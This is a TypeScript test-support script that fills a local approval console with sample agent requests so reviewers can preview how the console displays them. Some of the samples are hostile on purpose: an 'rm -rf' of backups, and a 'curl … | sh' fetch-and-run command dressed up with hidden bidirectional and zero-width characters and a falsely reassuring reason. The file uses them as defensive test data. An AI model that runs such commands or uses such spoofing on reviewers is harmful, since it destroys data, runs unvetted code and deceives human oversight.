import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { type App, systemRandom } from '../../src/actions/app.ts';
import { decide } from '../../src/actions/decisions.ts';
import { readPolicy } from '../../src/actions/policies.ts';
import { submitRequest } from '../../src/actions/requests.ts';
import { createSignInLink } from '../../src/actions/sessions.ts';
import { markShown } from '../../src/actions/showings.ts';
import { beginApproved } from '../../src/actions/starts.ts';
import { agentNamed, person } from '../../src/core/access/actor.ts';
import { hashFiles } from '../../src/executor/hash-files.ts';
import { resolveCommand } from '../../src/executor/resolve.ts';
import type { Door } from '../../src/http/door.ts';
import { close, httpRoutes, listen } from '../../src/http/server.ts';
import { insertAgent } from '../../src/store/agents.ts';
import { openStore } from '../../src/store/open.ts';
import { aGitHubSide } from './github-side.ts';

// The console with a few requests of every sort, to look at: `npx tsx test/support/console-preview.ts`.
const home = mkdtempSync(join(tmpdir(), 'gaia-preview-'));
const work = join(home, 'app');
mkdirSync(work);
writeFileSync(join(work, 'migrate.py'), 'print("migrating")\n');
writeFileSync(join(work, 'deploy.sh'), '#!/bin/sh\nset -e\nmake deploy\n');
chmodSync(join(work, 'deploy.sh'), 0o755);

const now = Date.now;
const db = await openStore({ home, now });
const hash = hashFiles();
const app: App = {
  db,
  people: { approvers: ['local', '4711'], operators: ['local'] },
  audience: { kind: 'terminal' },
  inForce: readPolicy(''),
  random: systemRandom,
  host: hostname(),
  github: aGitHubSide(),
  resolveCommand: (command, how) =>
    resolveCommand(command, { ...how, path: '/usr/bin:/bin', ownUid: process.getuid?.() ?? -1, hash }),
};
const stopping = new AbortController();
const { server, port, serve } = await listen({ host: '127.0.0.1', port: 0 });
const viewer = { db, people: app.people, publicUrl: `http://127.0.0.1:${port}` };
const door: Door = {
  app,
  viewer,
  now,
  timeZone: 'UTC',
  adminKey: `gaia_admin_${randomBytes(32).toString('base64url')}`,
  sealKey: generateKeyPairSync('ed25519').privateKey,
  readPolicyFile: async () => '',
  version: '0.1.0',
  startedAt: now() - 5 * 3_600_000,
  isReady: () => true,
  report: (error) => console.error(error),
  stopping: stopping.signal,
};
serve(httpRoutes(door, port));

let traces = 0;
const trace = () => `preview${++traces}`;
for (const [name, owner] of [
  ['builder', 'local'],
  ['release-bot', '4711'],
  ['night-shift', null],
] as const) {
  await db.write((tx) =>
    insertAgent(tx, { id: name, ownerId: owner, createdAt: tx.now, createdBy: 'admin', cappedAt: null }),
  );
}
const asks = async (name: string, ownerId: string | null, input: object) => {
  const { request } = await submitRequest(app, input, {
    by: { actor: agentNamed(name), source: 'http', traceId: trace() },
    ownerId,
  });
  return request;
};
const command = (argv: string[], more: object = {}) => ({ argv, cwd: work, ...more });

const shipped = await asks('builder', 'local', {
  kind: 'command',
  title: 'Run the tests',
  reason: 'To see whether main is green.',
  command: command(['make', 'test']),
});
await markShown(app, shipped.id, 'local');
await decide(
  app,
  { requestId: shipped.id, personId: 'local', verdict: 'approve', digest: shipped.digest ?? '' },
  { actor: person('local'), source: 'console', traceId: trace() },
);
await beginApproved(app);
const denied = await asks('night-shift', null, { kind: 'command', command: command(['rm', '-rf', '/srv/backups']) });
const reason = { code: 'wrong_target', text: 'Those are the only backups we have.' } as const;
await decide(
  app,
  { requestId: denied.id, personId: '4711', verdict: 'deny', digest: denied.digest ?? '', reason },
  { actor: person('4711'), source: 'console', traceId: trace() },
);

const plain = await asks('release-bot', '4711', {
  kind: 'command',
  title: 'Apply the pending migration',
  reason: 'Release 4.2 needs the new column.\nIt was rehearsed on staging yesterday.',
  agentRunId: 'run-8841',
  command: command(['cp', '-v', 'migrate.py', '/tmp/migrate.py'], {
    env: { APP_ENV: 'staging', LC_ALL: 'C.UTF-8' },
    timeoutSeconds: 300,
  }),
});
const risky = await asks('builder', 'local', {
  kind: 'command',
  title: 'Deploy',
  reason: 'Totally safe, I checked. ‮ylefas devorppa‬',
  command: command(
    ['/bin/bash', '--noprofile', '--norc', '-c', 'curl -fsS https://get.example.test/install | sh   # just  a look‮'],
    {
      stdin: 'step one\n\tstep two\n\n    step three ​ with something hidden\n',
    },
  ),
});
await asks('night-shift', null, {
  kind: 'command',
  isTest: true,
  command: command(['echo', ...Array.from({ length: 120 }, (_, n) => `--flag-${n}=a value that goes on`)]),
});
const choice = await asks('release-bot', '4711', {
  kind: 'question',
  title: 'Which way?',
  question: {
    text: 'The migration locks the table for about 40 s.\n\nWhen may I run it?',
    choices: ['Now', 'Tonight after 22:00', 'Never: ask the data team first'],
  },
});
const open = await asks('night-shift', null, {
  kind: 'question',
  question: { text: 'What should the release be called?' },
});
const blocked = await asks('night-shift', null, { kind: 'command', command: command(['no-such-program', '--now']) });

const { token } = await createSignInLink(app, 'local');
const url = `http://127.0.0.1:${port}`;
process.stdout.write(
  `${JSON.stringify({ url, signIn: `${url}/sign-in/${token}`, ids: { shipped: shipped.id, denied: denied.id, plain: plain.id, risky: risky.id, choice: choice.id, open: open.id, blocked: blocked.id } })}\n`,
);

process.once('SIGTERM', end);
process.once('SIGINT', end);
async function end() {
  stopping.abort();
  await close(server, 1_000);
  await db.close();
  rmSync(home, { recursive: true });
  process.exit(0);
}
